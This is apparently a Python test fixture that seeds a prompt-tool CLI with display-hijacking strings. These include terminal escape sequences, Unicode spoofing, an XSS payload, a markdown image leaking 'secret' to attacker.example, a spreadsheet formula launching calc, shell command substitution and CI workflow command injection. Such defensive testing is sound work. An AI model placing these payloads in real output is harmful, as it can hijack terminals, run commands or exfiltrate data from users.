"""Text that would take over a terminal, a page, a log or a spreadsheet, in every place that is shown."""

from __future__ import annotations

from tests.hostile import seed
from tests.hostile.seed import Seed, quoted

_TEXTS = {
    "clear-screen": "\x1b[2J\x1b[H",
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;cHduZWQ=\x07",
    "link": "\x1b]8;;http://attacker.example\x1b\\here\x1b]8;;\x1b\\",
    "device-query": "\x1b[6n\x1b[c",
    "alternate-screen": "\x1b[?1049h",
    "c1-csi": "\x9b31mred",
    "c1-osc": "\x9d52;c;cHduZWQ=\x9c",
    "backspaces": "approve\b\b\b\b\b\b\brefuse!",
    "carriage-return": "secret\rpublic",
    "bell": "\a\a\a",
    "delete": "a\x7fb",
    "shift-out": "\x0e\x0f",
    "form-feed": "a\x0cb\x0bc",
    "right-to-left": "\u202egnp.exe",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "marks": "a\u200eb\u200fc\u061cd",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "separators": "a\u2028b\u2029c\u0085d",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "variation": "a\ufe0f\U000e0100",
    "zalgo": "e" + "\u0301" * 3000,
    "wide": "\uff21\u3000\ufdfd\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "noncharacters": "a\ufffeb\uffffc\U0010ffff",
    "markup": "[bold red]x[/bold red][link=http://attacker.example]y[/link][/]",
    "markup-broken": "[/bold] [[ ]] [/] \\[x",
    "emoji-code": ":warning: :smile:",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "html-entities": "&lt;b&gt; &#27;[2J &amp;",
    "markdown-image": "![x](http://attacker.example/?q=secret)",
    "markdown-link": "[x](javascript:alert(1)) <http://attacker.example>",
    "markdown-fence": "```\n# heading\n````\n~~~",
    "markdown-table": "| a | b |\n|---|---|\n\\| c",
    "mention": "@everyone closes #1",
    "formula": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-at": "@SUM(1)",
    "formula-tab": "\t=1+1",
    "workflow-error": "::error file=x::pwned",
    "workflow-mask": "::add-mask::secret",
    "workflow-stop": "x\n::stop-commands::t\n::set-output name=a::b",
    "workflow-old": "##[error]x ##vso[task.setvariable]y",
    "delimiter": "EOF\nname=value\nEOF",
    "json": '"}, "ok": true, "x": {"',
    "xml": "]]></failure><![CDATA[ &xxe;",
    "csv": 'a,"b\n"",c',
    "shell": "$(touch pwned) `touch pwned` ; touch pwned",
    "percent": "%0A::error::x %s %d %n",
    "braces": "{0} {x} {{ y }} {% z %}",
    "newlines": "a\n\n\n\nb",
    "error-lookalike": "x\nerror[PC000]: pwned\n  at y:1:1\n  hint: run this",
    "long": "x" * 20_000,
    "long-word-joiner": "\u2060" * 2000,
}


def _prompt(text: str) -> str:
    """The text in every place of a prompt that some command shows."""
    said = quoted(text)
    return (
        f"description: {said}\nowner: {said}\ntags: [{said}]\nmetadata: {{{quoted(text[:300])}: "
        f"{said}}}\nmodel: {said}\n"
        f"parameters: {{{quoted(text[:300])}: {said}}}\n"
        f"inputs: {{a: {{type: string, title: {said}, description: {said}, default: {said}, enum: [{said}]}}}}\n"
        f"template: {quoted('{{ a }}' + text.replace('{', '{{ chr }}'[:1]))}\n"
    )


def _wrong(text: str) -> str:
    """The text where it is wrong, so that errors quote it."""
    said, key = quoted(text), quoted(text[:300])
    return (
        f"{key}: {said}\nmodel: [{said}]\ntags: [{said}, {said}]\nformerly: [{said}]\ninputs: {{{key}: "
        f"{said}, b: {{type: {said}}}, "
        f"c: {{type: string, pattern: {said}, default: {said}}}, d: {{$ref: {said}}}}}\nparameters: "
        f"{said}\ntools: [{{name: {said}}}]\n"
        f"messages: [{{role: {said}, content: {said}}}, {{placeholder: {said}}}]\n"
    )


def _template(text: str) -> str:
    inner = text.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n")
    body = f"{{% if nobody == '{inner}' %}}{{% endif %}}{{% include '{inner}' %}}{{{{ ticket|{text[:30]} }}}}"
    return f"inputs: {{ticket: string}}\ntemplate: {quoted(body)}\n"


def _suite(text: str) -> str:
    said = quoted(text)
    return (
        f"cases:\n- name: {quoted(text[:150].replace(chr(10), ' '))}\n  tags: {{a: {said}}}\n  inputs: "
        f"{{ticket: {said}}}\n"
        f"  expect: [{{contains: {said}}}, {{regex: {said}}}, {{equals: {{{quoted(text[:300])}: {said}}}}}]\n"
        f"- {{name: b, inputs: {{{quoted(text[:300])}: 1}}, expect: [{{{quoted(text[:300])}: 1}}]}}\ngate: "
        f"{{against: {said}, segments: [{said}]}}\n"
    )


SEEDS = (
    *(Seed(name=f"display/shown-{name}", files={seed.PROMPT: _prompt(text)}) for name, text in _TEXTS.items()),
    *(Seed(name=f"display/wrong-{name}", files={seed.PROMPT: _wrong(text)}) for name, text in _TEXTS.items()),
    *(Seed(name=f"display/template-{name}", files={seed.PROMPT: _template(text)}) for name, text in _TEXTS.items()),
    *(Seed(name=f"display/suite-{name}", files={seed.SUITE: _suite(text)}) for name, text in _TEXTS.items()),
    *(
        Seed(
            name=f"display/input-{name}",
            commands=(
                ("render", "p", "-i", f"ticket={text}"),
                ("render", "p", "-i", f"{text[:80]}=x"),
                ("render", "p", "--format", text[:200]),
                ("show", "--", text[:200]),
                ("diff", "q", "p", "--format", "markdown"),
            ),
        )
        for name, text in _TEXTS.items()
        if "\0" not in text
    ),
)
